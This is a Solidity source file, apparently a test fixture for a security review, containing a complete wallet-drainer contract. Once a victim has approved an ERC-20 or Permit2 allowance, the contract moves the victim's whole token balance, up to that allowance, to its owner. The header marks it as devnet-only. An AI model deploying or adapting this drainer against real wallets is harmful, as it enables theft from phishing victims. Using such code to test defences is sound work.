// SPDX-License-Identifier: MIT
// A devnet wallet drainer, the kind a phishing page asks its victim to approve: once a victim has
// approved it (an ERC-20 allowance, or a Permit2 allowance from a signed PermitSingle), anyone can
// call drain and the victim's whole balance, up to the allowance, goes to the drainer's owner.
// It exists so the review's warnings are proven against the attack they are for. Never deploy it.
pragma solidity ^0.8.20;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// The part of Permit2's AllowanceTransfer the drainer uses (github.com/Uniswap/permit2).
interface IPermit2Allowance {
    function allowance(address owner, address token, address spender)
        external
        view
        returns (uint160 amount, uint48 expiration, uint48 nonce);

    function transferFrom(address from, address to, uint160 amount, address token) external;
}

contract Drainer {
    address public immutable owner;

    event Drained(address indexed token, address indexed victim, uint256 amount);

    constructor(address owner_) {
        owner = owner_;
    }

    /// Pulls as much of `victim`'s `token` as the ERC-20 allowance lets it, to the owner. Open to any
    /// caller: the proceeds can only go to the owner, and tests then need no owner key.
    function drain(address token, address victim) external returns (uint256 amount) {
        amount = _min(IERC20(token).allowance(victim, address(this)), IERC20(token).balanceOf(victim));
        require(IERC20(token).transferFrom(victim, owner, amount), "transferFrom failed");
        emit Drained(token, victim, amount);
    }

    /// The same through a Permit2 allowance: what a signed PermitSingle naming this contract as spender
    /// hands over once anyone submits it to Permit2.permit.
    function drainWithPermit2(IPermit2Allowance permit2, address token, address victim)
        external
        returns (uint256 amount)
    {
        (uint160 allowed,,) = permit2.allowance(victim, token, address(this));
        amount = _min(allowed, IERC20(token).balanceOf(victim));
        permit2.transferFrom(victim, owner, uint160(amount), token);
        emit Drained(token, victim, amount);
    }

    function _min(uint256 a, uint256 b) private pure returns (uint256) {
        return a < b ? a : b;
    }
}
